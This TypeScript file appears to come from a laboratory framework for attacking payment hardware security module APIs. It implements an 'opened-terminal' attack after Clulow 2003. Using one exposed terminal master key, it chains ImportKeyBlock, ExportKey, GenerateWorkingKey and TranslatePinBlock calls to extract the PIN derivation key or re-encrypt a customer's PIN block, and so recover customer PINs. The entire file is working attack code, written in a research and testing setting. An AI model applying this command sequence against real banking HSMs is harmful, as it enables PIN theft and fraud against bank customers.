/**
 * One terminal is opened, and its master key read. The host's programmer then makes the device talk to
 * that terminal: a zone key of the attacker's own comes in from under its key and the PIN derivation key
 * goes out under it; or a customer's PIN block is translated to the terminal's PIN key.
 */
import { DesKey } from '@pinfold/crypto';
import { decryptPinBlock, pinOfOffset } from '@pinfold/pin';
import { attack } from '../attack.js';
import { DECIMALISATION_TABLE, validationDataOf } from '../laboratory.js';
import { makeTransport, openTransport } from '../transport.js';

export const openedTerminal = attack({
  name: 'opened-terminal',
  title: "the key of one opened terminal gives every customer's PIN",
  source:
    'Clulow 2003 (key conjuring, trojan wrapped key); found by the analyser on these commands',
  roles: ['production'],
  note: "the laboratory gives one terminal's master key away; what goes to that very terminal is lost in any case",
  async run({ lab, attacker, say }) {
    const tmk = lab.key('TMK');
    const known = lab.exposeKey(tmk);
    const pvk = lab.key('P', { usage: 'PGK' });
    const zpk = lab.pinKey();
    const { pan, offset } = lab.customer(1, { pvk, tableId: lab.table() });
    const pinBlock = lab.typed({ pin: lab.exposePin(pan), pan, key: zpk });
    const bring = async (): Promise<string> => {
      const own = lab.random(16);
      const wrapped = { key: own, algorithm: 'T', says: 'K1' } as const;
      const keyBlock = makeTransport(wrapped, known);
      const asked = { keyBlock, under: tmk, usage: 'ZCK' as const };
      const { key } = await attacker.call('ImportKeyBlock', asked);
      say("ImportKeyBlock takes a zone key of the attacker's from under the terminal's key");
      const out = await attacker.call('ExportKey', { key: pvk, under: key });
      const stolen = openTransport(out.keyBlock, own) ?? attacker.nothingLearnt();
      say('ExportKey puts the PIN derivation key under it');
      return pinOfOffset({
        pvk: DesKey.of(stolen),
        decimalisationTable: DECIMALISATION_TABLE,
        validationData: validationDataOf(pan),
        offset,
      });
    };
    const translate = async (): Promise<string> => {
      const asked = { usage: 'TPK', algorithm: 'T' } as const;
      const { key } = await attacker.call('GenerateWorkingKey', asked);
      const { keyBlock } = await attacker.call('ExportKey', { key, under: tmk });
      const tpk = openTransport(keyBlock, known) ?? attacker.nothingLearnt();
      const format = 'iso0' as const;
      const sides = { from: { key: zpk, format }, to: { key, format } };
      const moved = await attacker.call('TranslatePinBlock', { pinBlock, pan, ...sides });
      say("TranslatePinBlock from the zone's PIN key to a PIN key of the terminal");
      const block = moved.pinBlock;
      const pin = decryptPinBlock({ format, key: DesKey.of(tpk), block, pan });
      return pin.ok ? pin.value : attacker.nothingLearnt();
    };
    const pin = await attacker.firstOf([bring, translate]);
    return { obtained: `the PIN ${pin}`, verified: pin === lab.exposePin(pan) };
  },
});
